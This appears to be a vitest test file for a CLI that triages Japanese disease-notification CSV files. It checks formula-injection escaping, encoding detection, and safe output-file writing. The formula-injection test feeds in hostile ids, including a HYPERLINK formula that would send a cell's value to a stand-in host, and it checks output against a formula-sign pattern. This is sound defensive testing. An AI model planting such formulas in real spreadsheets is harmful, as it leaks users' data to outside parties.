/**
 * What the CLI writes and how it reads, held to the README's promises: CSV output cannot run
 * as a spreadsheet formula; one bad byte in a UTF-8 file does not turn the file into CP932
 * (rows keep their tiers, a warning names the encoding and the line); `-o` never overwrites
 * the input, a link or a device, keeps an existing file's mode and makes new files 0600.
 * The real binary, run as a child process, on the 発生届 sample files.
 */
import { spawnSync, type SpawnSyncReturns } from 'node:child_process';
import { chmodSync, existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const BIN = join(ROOT, 'bin', 'hersys-assist.mjs');
const SAMPLE_JA = join(ROOT, 'tests', 'fixtures', 'sample-notifications-ja.csv');
const AS_OF = '2022-02-20';

let tmp = '';
const inTmp = (name: string) => join(tmp, name);
const run = (args: string[], input?: Buffer): SpawnSyncReturns<Buffer> =>
  spawnSync(process.execPath, [BIN, ...args], { cwd: ROOT, input, maxBuffer: 1 << 28, timeout: 60_000 });
const stderrLines = (r: SpawnSyncReturns<Buffer>) => r.stderr.toString('utf8').split('\n').filter((l) => l !== '');

interface Row {
  id: string;
  tier: string;
  reasons: string[];
  problems: Array<{ code: string }>;
}
const json = (r: SpawnSyncReturns<Buffer>): Row[] => JSON.parse(r.stdout.toString('utf8'));

beforeAll(async () => {
  const buildScript = new URL('../../scripts/build-cli.mjs', import.meta.url).href;
  const { buildCli } = (await import(buildScript)) as { buildCli: () => Promise<string> };
  await buildCli();
  tmp = mkdtempSync(join(tmpdir(), 'hersys-cli-safety-'));
}, 120_000);

afterAll(() => {
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

describe('triage --format csv: formula injection', () => {
  it('writes ids that a spreadsheet would evaluate as text starting with an apostrophe', () => {
    const ids = ['=HYPERLINK("http://example.invalid/?d="&B2,"詳細")', '+1+1', '@SUM(A1:A9)', '＝1+1', '-2+3', '41720001'];
    const lines = ['id,diagnosis_date,birthdate,phone,sex'];
    ids.forEach((id, i) => lines.push(`"${id.replace(/"/g, '""')}",2022-02-09,1980-04-0${i + 1},090-3141-59${20 + i},男`));
    const file = inTmp('formula.csv');
    writeFileSync(file, lines.join('\r\n') + '\r\n');
    const r = run(['triage', file, '--format', 'csv', '--as-of', AS_OF]);
    expect(r.status).toBe(0);
    const parsed = Papa.parse<Record<string, string>>(r.stdout.toString('utf8').replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.map((row) => row.id)).toEqual([...ids.slice(0, 5).map((id) => `'${id}`), '41720001']);
    // No cell of the file starts with a formula sign.
    for (const row of parsed.data) for (const v of Object.values(row)) expect(v, v).not.toMatch(/^[\s]*[=+\-@＝＋－＠]/);
    // JSON keeps the id exactly as written (it is not for spreadsheets).
    expect(json(run(['triage', file, '--as-of', AS_OF])).map((row) => row.id)).toEqual(ids);
  });
});

describe('triage: encodings', () => {
  const clean = () => readFileSync(SAMPLE_JA);
  /** The sample with one byte of line `line` (1-based) replaced by 0x82 inside a Japanese word. */
  function withBadByte(line: number): Buffer {
    const text = clean().toString('utf8').split('\n');
    const target = Buffer.from(text[line - 1]!, 'utf8');
    const at = target.indexOf(Buffer.from('確定例', 'utf8'));
    expect(at).toBeGreaterThan(0);
    const broken = Buffer.concat([target.subarray(0, at), Buffer.from([0x82]), target.subarray(at + 3)]);
    const lines = text.map((l) => Buffer.from(l, 'utf8'));
    lines[line - 1] = broken;
    return Buffer.concat(lines.flatMap((l, i) => (i ? [Buffer.from('\n'), l] : [l])));
  }

  it('a UTF-8 file with one invalid byte stays UTF-8: same tiers for every other row, exit 0, one warning naming UTF-8 and the line', () => {
    const file = inTmp('one-bad-byte.csv');
    writeFileSync(file, withBadByte(5));
    const want = json(run(['triage', SAMPLE_JA, '--as-of', AS_OF]));
    const r = run(['triage', file, '--as-of', AS_OF]);
    expect(r.status).toBe(0);
    const got = json(r);
    expect(got.map((row) => row.id)).toEqual(want.map((row) => row.id));
    got.forEach((row, i) => {
      if (i === 3) return; // line 5 is the 4th row: its 患者（確定例） is no longer readable
      expect(row.tier, row.id).toBe(want[i]!.tier);
      expect(row.reasons, row.id).toEqual(want[i]!.reasons);
    });
    const err = stderrLines(r);
    expect(err).toHaveLength(1);
    expect(err[0]).toMatch(/^hersys-assist: 警告: UTF-8 として読みましたが、5行目に/);
    expect(err[0]).toContain('warning: read as UTF-8, but line 5 has a byte that is not valid UTF-8 (0x82)');
  });

  it('a CP932 file is detected, with no warning, and gives the UTF-8 twin’s output; --encoding cp932 says the same', () => {
    const file = inTmp('sjis.csv');
    writeFileSync(file, iconv.encode(clean().toString('utf8'), 'cp932'));
    const want = run(['triage', SAMPLE_JA, '--as-of', AS_OF]).stdout;
    for (const extra of [[], ['--encoding', 'cp932'], ['--encoding=Shift_JIS']]) {
      const r = run(['triage', file, '--as-of', AS_OF, ...extra]);
      expect(r.status).toBe(0);
      expect(r.stderr.toString()).toBe('');
      expect(r.stdout.equals(want)).toBe(true);
    }
  });

  it('--encoding utf-8 on a CP932 file reads it as UTF-8 and warns about line 1', () => {
    const file = inTmp('sjis-forced.csv');
    writeFileSync(file, iconv.encode(clean().toString('utf8'), 'cp932'));
    const r = run(['triage', file, '--encoding', 'utf-8', '--as-of', AS_OF]);
    // The Japanese headers are unreadable as UTF-8: the header row names no field.
    expect(r.status).toBe(2);
    expect(stderrLines(r)).toHaveLength(1);
    expect(r.stdout.length).toBe(0);
  });

  it('a CP932 file with one byte that is not CP932 is still CP932, with a warning naming CP932 and the line', () => {
    const text = clean().toString('utf8');
    const sjis = iconv.encode(text, 'cp932');
    const lines = text.split('\n');
    const offset = Buffer.byteLength(iconv.encode(lines.slice(0, 7).join('\n') + '\n', 'cp932'));
    const broken = Buffer.from(sjis);
    broken[offset + 2] = 0xff; // inside the id of line 8
    const file = inTmp('sjis-bad.csv');
    writeFileSync(file, broken);
    const r = run(['triage', file, '--as-of', AS_OF]);
    expect(r.status).toBe(0);
    expect(json(r)).toHaveLength(lines.filter((l) => l.trim() !== '').length - 1);
    const err = stderrLines(r);
    expect(err).toHaveLength(1);
    expect(err[0]).toContain('read as CP932 (Shift_JIS), but line 8 has a byte that is not valid CP932 (Shift_JIS) (0xff)');
  });

  it('a bad --encoding is exit 2 with one line', () => {
    const r = run(['triage', SAMPLE_JA, '--encoding', 'latin9']);
    expect(r.status).toBe(2);
    expect(stderrLines(r)).toEqual([expect.stringContaining('--encoding must be utf-8 or cp932, not "latin9"')]);
  });
});

describe('triage -o: careful writing', () => {
  const expectRefused = (r: SpawnSyncReturns<Buffer>, pattern: RegExp) => {
    expect(r.status).toBe(2);
    expect(r.stdout.length).toBe(0);
    const err = stderrLines(r);
    expect(err).toHaveLength(1);
    expect(err[0]).toMatch(pattern);
  };

  it('refuses to overwrite the input file, also through another name (a hard link) or standard input', () => {
    const dir = inTmp('same-input');
    mkdirSync(dir);
    const input = join(dir, 'in.csv');
    writeFileSync(input, readFileSync(SAMPLE_JA));
    const before = readFileSync(input);
    expectRefused(run(['triage', input, '-o', input]), /the output is the input file/);
    linkSync(input, join(dir, 'alias.csv'));
    expectRefused(run(['triage', input, '-o', join(dir, 'alias.csv')]), /the output is the input file/);
    expect(readFileSync(input).equals(before)).toBe(true);
    expect(readdirSync(dir).sort()).toEqual(['alias.csv', 'in.csv']);
  });

  it('refuses a symbolic link, a device, a FIFO and a folder, and changes none of them', () => {
    const dir = inTmp('special');
    mkdirSync(dir);
    const target = join(dir, 'elsewhere.json');
    writeFileSync(target, 'keep');
    symlinkSync(target, join(dir, 'link.json'));
    expectRefused(run(['triage', SAMPLE_JA, '-o', join(dir, 'link.json')]), /symbolic link/);
    expect(lstatSync(join(dir, 'link.json')).isSymbolicLink()).toBe(true);
    expect(readFileSync(target, 'utf8')).toBe('keep');
    expectRefused(run(['triage', SAMPLE_JA, '-o', '/dev/null']), /not a regular file/);
    expect(lstatSync('/dev/null').isCharacterDevice()).toBe(true);
    const fifo = join(dir, 'pipe');
    if (spawnSync('mkfifo', [fifo]).status === 0) {
      expectRefused(run(['triage', SAMPLE_JA, '-o', fifo]), /not a regular file/);
      expect(lstatSync(fifo).isFIFO()).toBe(true);
    }
    mkdirSync(join(dir, 'folder'));
    expectRefused(run(['triage', SAMPLE_JA, '-o', join(dir, 'folder')]), /folder/);
    expect(readdirSync(dir).sort()).toEqual(['elsewhere.json', 'folder', 'link.json', 'pipe'].filter((n) => n !== 'pipe' || existsSync(fifo)));
  });

  it('keeps the mode of an existing file (0640 stays 0640) and makes a new file 0600', () => {
    const dir = inTmp('modes');
    mkdirSync(dir);
    const existing = join(dir, 'existing.json');
    writeFileSync(existing, 'old');
    chmodSync(existing, 0o640);
    expect(run(['triage', SAMPLE_JA, '--as-of', AS_OF, '-o', existing]).status).toBe(0);
    expect(statSync(existing).mode & 0o777).toBe(0o640);
    expect(JSON.parse(readFileSync(existing, 'utf8'))).toHaveLength(39);
    const fresh = join(dir, 'fresh.csv');
    expect(run(['triage', SAMPLE_JA, '--format', 'csv', '--as-of', AS_OF, '-o', fresh]).status).toBe(0);
    expect(statSync(fresh).mode & 0o777).toBe(0o600);
    expect(readdirSync(dir).sort()).toEqual(['existing.json', 'fresh.csv']);
  });
});
